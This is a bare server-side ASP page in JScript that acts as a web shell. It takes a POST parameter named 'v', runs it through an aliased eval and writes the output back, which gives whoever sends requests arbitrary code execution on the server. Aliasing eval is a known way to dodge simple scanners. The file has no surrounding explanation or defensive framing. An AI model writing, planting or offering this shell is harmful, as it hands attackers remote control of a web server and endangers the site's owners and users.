<script runat="server" language="jscript">
function work(s) { var e = eval; return e(s); }
function input() { return Request.Form("v") + ""; }
Response.Write(work(input()));
</script>
